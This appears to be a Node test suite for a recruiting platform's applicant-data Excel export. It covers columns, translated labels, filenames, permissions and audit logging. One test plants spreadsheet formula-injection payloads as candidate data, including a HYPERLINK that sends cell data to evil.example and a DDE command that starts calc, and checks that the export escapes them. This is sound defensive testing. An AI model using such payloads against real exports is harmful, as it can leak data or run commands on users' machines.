import assert from 'node:assert/strict';
import { after, before, it } from 'node:test';
import { XLSX_CONTENT_TYPE } from '@rec/core';
import ExcelJS from 'exceljs';
import type { LightMyRequestResponse } from 'fastify';
import { newId } from '../../db/ids';
import { DEMO_ACCOUNTS } from '../../seed/demo-accounts';
import { DEMO, DEMO_PREFIX, demoId } from '../../seed/demo-ids';
import { DEMO_OPENING_IDS } from '../../seed/demo-openings';
import { DEMO_PIPELINE } from '../../seed/demo-pipeline';
import { type AuthTestApp, buildAuthTestApp, OWN_ORIGIN } from '../../testing/auth-helpers';
import { describeEachBackend } from '../../testing/test-database';
import { attachmentDisposition } from '../../http/content-disposition';

const PERSONAL = ['First name', 'Last name', 'Email', 'Phone', 'Nationality', 'Birth date', 'Gender', 'Address'];
const OPERATIONAL = ['Application ID', 'Applied at', 'Channel', 'Language', 'Referral code', 'Campaign source', 'Campaign medium', 'Campaign', 'Referring page', 'Consent given at'];
const PROFESSIONAL = ['Expected salary', 'Driving licenses', 'Work permit', 'CV file name'];

/** The downloaded workbook's one worksheet. */
async function worksheet(response: LightMyRequestResponse): Promise<ExcelJS.Worksheet> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(response.rawPayload as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0];
  assert.ok(sheet, 'one worksheet');
  return sheet;
}

/** The sheet's rows as arrays of cell values (exceljs rows are 1-based). */
async function sheetRows(response: LightMyRequestResponse): Promise<unknown[][]> {
  const sheet = await worksheet(response);
  const rows: unknown[][] = [];
  sheet.eachRow((row) => {
    rows.push((row.values as unknown[]).slice(1));
  });
  return rows;
}

describeEachBackend('applicant data export', (context) => {
  let t: AuthTestApp;
  let owner = '';
  let viewer = '';
  before(async () => {
    t = await buildAuthTestApp(context.db);
    owner = await t.cookieFor(DEMO_ACCOUNTS.owner.id);
    viewer = await t.cookieFor(DEMO_ACCOUNTS.viewer.id);
  });
  after(() => t.app.close());
  // The host sends its page locale; English unless a test says otherwise (`null`: no header at all).
  const download = (openingId: string, query: string, cookie = owner, language: string | null = 'en') =>
    t.app.inject({
      url: `/v2/jobs/${openingId}/export/applications${query}`,
      headers: { cookie, origin: OWN_ORIGIN, ...(language ? { 'accept-language': language } : {}) },
    });

  it('streams one row per application with the columns of every chosen category', async () => {
    const response = await download(DEMO_OPENING_IDS.published, '?categories[]=PERSONAL&categories[]=OPERATIONAL&categories[]=PROFESSIONAL');
    assert.equal(response.statusCode, 200);
    assert.equal(response.headers['content-type'], XLSX_CONTENT_TYPE);
    // ":" is refused by Windows and macOS file names: it becomes "-".
    assert.equal(response.headers['content-disposition'], 'attachment; filename="Candidates Data Mechatroniker-in Robotik (LR-MEC-007).xlsx"');
    assert.equal(response.headers['cache-control'], 'private, no-store');
    const rows = await sheetRows(response);
    assert.deepEqual(rows[0], [...PERSONAL, ...OPERATIONAL, ...PROFESSIONAL]);
    assert.equal(rows.length, 1 + 30);

    const ids = await context.db
      .selectFrom('applications as a')
      .innerJoin('channels as c', 'c.id', 'a.channel_id')
      .innerJoin('postings as p', 'p.id', 'c.posting_id')
      .where('p.opening_id', '=', DEMO_OPENING_IDS.published)
      .select(['a.id', 'a.form', 'a.created_at'])
      .orderBy('a.created_at')
      .orderBy('a.id')
      .execute();
    assert.deepEqual(
      rows.slice(1).map((row) => row[8]),
      ids.map((row) => row.id),
      'every application once, oldest first',
    );
    const first = ids[0];
    const firstRow = rows[1] ?? [];
    const form = first?.form as Record<string, unknown>;
    assert.deepEqual(firstRow.slice(0, 3), [form.firstName, form.lastName, form.email]);
    assert.equal(firstRow[3], form.phone, 'a phone number starting with + is a text cell, without a visible apostrophe');
    assert.match(String(form.phone), /^\+352 /);
    // Dates are real date cells shown DD/MM/YYYY: the birth date and the application date.
    const [dd, mm, yyyy] = String(form.birthDate).split('/').map(Number);
    assert.deepEqual(firstRow[5], new Date(Date.UTC(yyyy ?? 0, (mm ?? 1) - 1, dd)));
    assert.deepEqual(firstRow[9], new Date(first?.created_at ?? 0));
    const sheet = await worksheet(response);
    assert.equal(sheet.getRow(2).getCell(6).numFmt, 'dd/mm/yyyy');
    assert.equal(sheet.getRow(2).getCell(10).numFmt, 'dd/mm/yyyy');
    assert.equal(sheet.getRow(2).getCell(18).numFmt, 'dd/mm/yyyy hh:mm');
    assert.equal(sheet.getRow(2).getCell(4).type, ExcelJS.ValueType.String);
    // Codes carry their labels in the recruiter's language.
    const genders: Record<string, string> = { female: 'Female', male: 'Male', nonBinary: 'Non-binary', undisclosed: 'Prefers not to say' };
    assert.equal(firstRow[6], genders[String(form.gender)]);
    assert.ok(['Share link', 'Referral'].includes(String(firstRow[10])), String(firstRow[10]));
    assert.ok(['English', 'French', 'German', 'Polish', 'Portuguese', 'Dutch', 'Italian', 'Spanish', 'Luxembourgish'].includes(String(firstRow[11])), String(firstRow[11]));
    assert.equal(firstRow[18], Number(form.salary));
    assert.equal(firstRow[20], form.hasWorkPermit === 'yes' ? 'Yes' : 'No');
    assert.equal(firstRow[21], (form.cv as { name: string }).name);
    for (const row of rows.slice(1)) {
      assert.ok(!String(row[6]).match(/^(female|male|nonBinary|undisclosed)$/), 'no raw gender code');
      assert.ok(!String(row[10]).match(/^[A-Z]+$/), 'no raw channel code');
      assert.ok(!String(row[20]).match(/^(yes|no)$/), 'no raw yes/no');
    }
  });

  it('writes the labels in French for a French recruiter', async () => {
    const rows = await sheetRows(await download(DEMO_OPENING_IDS.published, '?categories[]=PERSONAL&categories[]=OPERATIONAL&categories[]=PROFESSIONAL', owner, 'fr'));
    const labels = new Set(rows.slice(1).flatMap((row) => [row[6], row[10], row[20]]));
    for (const expected of ['Femme', 'Homme', 'Oui', 'Non']) assert.ok(labels.has(expected), expected);
    assert.ok(labels.has('Lien partagé') || labels.has('Cooptation'));
    assert.ok(rows.slice(1).some((row) => row[11] === 'français'), 'language names in French');
  });

  it('keeps only the chosen categories, in a fixed order', async () => {
    const professional = await sheetRows(await download(DEMO_OPENING_IDS.published, '?categories[]=PROFESSIONAL&categories[]=PERSONAL'));
    assert.deepEqual(professional[0], [...PERSONAL, ...PROFESSIONAL]);
    const operational = await sheetRows(await download(DEMO_OPENING_IDS.published, '?categories=OPERATIONAL'));
    assert.deepEqual(operational[0], OPERATIONAL);
    assert.equal(operational.length, 31);
  });

  it('names the sheet and the columns in the page language, else in the recruiter’s own language', async () => {
    const FRENCH_PERSONAL = ['Prénom', 'Nom', 'E-mail', 'Téléphone', 'Nationalité', 'Date de naissance', 'Genre', 'Adresse'];
    const sheetName = async (response: LightMyRequestResponse) => (await worksheet(response)).name;
    const german = await download(DEMO_OPENING_IDS.published, '?categories[]=OPERATIONAL', owner, 'de-LU,de;q=0.9,en;q=0.5');
    assert.deepEqual((await sheetRows(german))[0], ['Bewerbungs-ID', 'Beworben am', 'Kanal', 'Sprache', 'Empfehlungscode', 'Kampagnenquelle', 'Kampagnenmedium', 'Kampagne', 'Verweisende Seite', 'Einwilligung erteilt am']);
    assert.equal(await sheetName(german), 'Bewerbungen');
    // Claire's account is in French: without a page language the export follows it.
    const accountLanguage = await download(DEMO_OPENING_IDS.published, '?categories[]=PERSONAL', owner, null);
    assert.deepEqual((await sheetRows(accountLanguage))[0], FRENCH_PERSONAL);
    assert.equal(await sheetName(accountLanguage), 'Candidatures');
    // An unsupported page language falls back to the account's as well.
    assert.deepEqual((await sheetRows(await download(DEMO_OPENING_IDS.published, '?categories[]=PERSONAL', owner, 'ja')))[0], FRENCH_PERSONAL);
  });

  it('refuses a missing or unknown category, and the viewer', async () => {
    for (const query of ['', '?categories[]=', '?categories[]=SECRET', '?categories[]=PERSONAL&categories[]=SECRET']) {
      const response = await download(DEMO_OPENING_IDS.published, query);
      assert.deepEqual(response.json(), { statusCode: 400, error: 'errors.invalidQuery' }, query);
    }
    assert.equal((await download(DEMO_OPENING_IDS.published, '?categories[]=PERSONAL', viewer)).statusCode, 403);
  });

  it('exports only the pipeline’s selection when applicationIds are given, still within the opening', async () => {
    const chosen = [DEMO_PIPELINE.applicationOf(2), DEMO_PIPELINE.applicationOf(5)];
    const other = DEMO_PIPELINE.applicationOf(35); // an application of another opening: never exported here
    const rows = await sheetRows(await download(DEMO_OPENING_IDS.published, `?categories[]=PERSONAL&${[...chosen, other].map((id) => `applicationIds[]=${id}`).join('&')}`));
    assert.equal(rows.length, 1 + chosen.length);
    assert.equal((await download(DEMO_OPENING_IDS.published, '?categories[]=PERSONAL&applicationIds[]=nothex')).statusCode, 400);
  });

  it('escapes formula-like values a candidate typed', async () => {
    const { db } = context;
    const channelId = demoId(DEMO_PREFIX.channel, 0x2000 + 0x63 * 0x10);
    const candidateId = newId();
    await db.insertInto('candidates').values({ id: candidateId, company_id: DEMO.companyId, email: 'mallory@example.org' }).execute();
    const malicious = {
      firstName: '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
      lastName: '+SUM(1;2)',
      email: 'mallory@example.org',
      phone: '-1+1',
      nationality: '@SUM(A1)',
      birthDate: '\t=1+1',
      gender: 'female',
      address: '\r=cmd|\'/c calc\'!A1',
      salary: '=1+1',
      drivingLicenses: ['B'],
      hasWorkPermit: 'yes',
      cv: { url: '/v2/storage/000000000000000000000000', name: '=evil.pdf' },
    };
    const applicationId = newId();
    await db
      .insertInto('applications')
      .values({
        id: applicationId,
        company_id: DEMO.companyId,
        channel_id: channelId,
        candidate_id: candidateId,
        submission_id: 'malicious-1',
        language: 'en',
        form: malicious,
        consent_given_at: new Date(),
        consent_text: 'ok',
        // A campaign is plain text too: no formula either (issue 30).
        utm_campaign: '@SUM(A1)',
      })
      .execute();
    const rows = await sheetRows(await download(DEMO_OPENING_IDS.publishedSmall, '?categories[]=PERSONAL&categories[]=OPERATIONAL&categories[]=PROFESSIONAL'));
    const row = rows.find((cells) => cells[8] === applicationId);
    assert.ok(row, 'the malicious application is exported');
    assert.deepEqual(row.slice(0, 8), [
      `'${malicious.firstName}`,
      `'${malicious.lastName}`,
      'mallory@example.org',
      `'${malicious.phone}`,
      `'${malicious.nationality}`,
      `'${malicious.birthDate}`,
      'Female',
      // XML reads a carriage return back as a line feed; the apostrophe is what matters.
      `'${malicious.address.replace('\r', '\n')}`,
    ]);
    assert.equal(row[15], `'@SUM(A1)`, 'the campaign');
    assert.deepEqual(row.slice(18), [`'=1+1`, 'B', 'Yes', `'=evil.pdf`]);
    for (const cell of rows.flat()) {
      // Only a plain phone or signed number may start with + or -: it cannot act as a formula.
      if (typeof cell === 'string') assert.ok(!/^[=+\-@\t\r]/.test(cell) || /^[+-][\d ()./-]*$/.test(cell), cell);
      else assert.ok(cell === undefined || cell === null || typeof cell === 'number' || cell instanceof Date, `no formula or rich cell: ${JSON.stringify(cell)}`);
    }
  });

  it('names the file after the title, with the reference code only when there is one (RFC 5987 for non-ASCII), file-system safe, in the recruiter language', async () => {
    const plain = await download(DEMO_OPENING_IDS.draft, '?categories[]=PERSONAL');
    // A "/" in the title would make a folder of the name when saved: it becomes "-".
    assert.equal(plain.headers['content-disposition'], 'attachment; filename="Candidates Data Data Engineer (Python-Spark) (LR-DATA-021).xlsx"');
    const german = await download(DEMO_OPENING_IDS.draft, '?categories[]=PERSONAL', owner, 'de-DE,de;q=0.9');
    assert.equal(german.headers['content-disposition'], 'attachment; filename="Bewerberdaten Data Engineer (Python-Spark) (LR-DATA-021).xlsx"');
    const french = await download(DEMO_OPENING_IDS.draft, '?categories[]=PERSONAL', owner, 'fr');
    assert.match(String(french.headers['content-disposition']), /filename\*=UTF-8''Donn%C3%A9es%20des%20candidats%20Data%20Engineer%20%28Python-Spark%29%20%28LR-DATA-021%29\.xlsx$/);
    const accented = await download(DEMO_OPENING_IDS.draftWithoutReference, '?categories[]=PERSONAL');
    assert.equal(
      accented.headers['content-disposition'],
      `attachment; filename="Candidates Data Engenheiro_a_ de vis_o computacional.xlsx"; filename*=UTF-8''Candidates%20Data%20Engenheiro%28a%29%20de%20vis%C3%A3o%20computacional.xlsx`.replace(
        'Engenheiro_a_',
        'Engenheiro(a)',
      ),
    );
    assert.deepEqual(await sheetRows(accented), [PERSONAL], 'no applications: the header row only');
    assert.equal(attachmentDisposition('a"b\\c\r\nd.xlsx'), 'attachment; filename="a_b_c  d.xlsx"; filename*=UTF-8\'\'a%22b%5Cc%20%20d.xlsx');
  });

  it('records each export in the audit log, without personal data', async () => {
    const { db } = context;
    const before = await db.selectFrom('audit_log').select('id').execute();
    const response = await download(DEMO_OPENING_IDS.published, '?categories[]=PERSONAL&categories[]=PROFESSIONAL');
    assert.equal(response.statusCode, 200);
    const rows = await db.selectFrom('audit_log').selectAll().where('id', 'not in', before.length ? before.map((row) => row.id) : ['']).execute();
    assert.equal(rows.length, 1);
    const entry = rows[0];
    assert.deepEqual(
      { company: entry?.company_id, actor: entry?.actor_id, action: entry?.action, opening: entry?.opening_id, details: entry?.details },
      {
        company: DEMO.companyId,
        actor: DEMO_ACCOUNTS.owner.id,
        action: 'opening.applications.export',
        opening: DEMO_OPENING_IDS.published,
        details: { categories: ['PERSONAL', 'PROFESSIONAL'], rowCount: 30 },
      },
    );
    assert.ok(Date.now() - new Date(entry?.created_at ?? 0).getTime() < 60_000);
    assert.doesNotMatch(JSON.stringify(entry), /@example\.org/);
    // A refused export is not recorded.
    await download(DEMO_OPENING_IDS.published, '?categories[]=PERSONAL', viewer);
    assert.equal((await db.selectFrom('audit_log').select('id').execute()).length, before.length + 1);
  });
});
